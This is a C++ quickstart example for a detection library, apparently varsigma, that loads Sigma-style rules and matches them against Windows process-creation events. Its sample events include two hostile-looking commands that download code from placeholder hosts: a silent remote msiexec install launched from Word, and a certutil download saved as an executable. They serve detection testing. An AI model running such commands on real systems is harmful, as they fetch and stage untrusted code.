// SPDX-License-Identifier: BSL-1.0
//
// Your own struct, rules from a folder, matches: all that a program needs to embed varsigma.
//
//     quickstart [RULES]
#include <varsigma/load/yaml.hpp>
#include <varsigma/varsigma.hpp>

#include <array>
#include <cstdint>
#include <iostream>
#include <string>

/// What the program has anyway.
struct process_event {
    std::uint32_t event_id;
    std::string image, command_line, parent_image, user;
};

/// The names that rules use for it.
template <>
struct varsigma::event_traits<process_event> {
    // from two logs: event 1 of Sysmon, 4688 of Security
    static constexpr std::array source{varsigma::sources::sysmon_process_creation,
                                       varsigma::sources::windows_security_process_creation};
    static constexpr auto fields = varsigma::fields(
        varsigma::field<"EventID", &process_event::event_id>, varsigma::field<"Image", &process_event::image>,
        varsigma::field<"CommandLine", &process_event::command_line>,
        varsigma::field<"ParentImage", &process_event::parent_image>, varsigma::field<"User", &process_event::user>);
};

// NOLINTNEXTLINE(bugprone-exception-escape): only for want of memory
int main(int argument_count, char** arguments) {
    const process_event events[] = {
        {1, R"(C:\Windows\System32\notepad.exe)", "notepad.exe notes.txt", R"(C:\Windows\explorer.exe)", "alice"},
        {1, R"(C:\Windows\System32\cmd.exe)", "cmd /c msiexec /q /i http://files.example.com/setup.msi",
         R"(C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE)", "bob"},
        {4688, R"(C:\Windows\System32\certutil.exe)", "certutil /urlcache /f http://192.0.2.44/tool.txt tool.exe",
         R"(C:\Windows\System32\cmd.exe)", "carol"},
    };

    const auto loaded = varsigma::yaml::load(argument_count > 1 ? arguments[1] : "examples/rules");
    const varsigma::rule_set<process_event> rules{loaded.rules}; // immutable, shared by all threads
    varsigma::rule_set<process_event>::scratch scratch{rules};   // one for each thread
    for (const auto& event : events) {
        std::cout << event.command_line << '\n';
        for (const auto& hit : rules.match(event, scratch)) {
            std::cout << "  " << hit.level() << ": " << varsigma::printable(hit.title()) << '\n';
        }
    }

    // nothing is dropped silently: what was wrong with rules, and which fields they miss in this struct
    for (const auto& finding : loaded.diagnostics) { std::cerr << render(finding) << '\n'; }
    for (const auto& finding : summarise(rules.diagnostics())) { std::cerr << render(finding) << '\n'; }
    return loaded.rules.empty() ? 1 : 0;
}
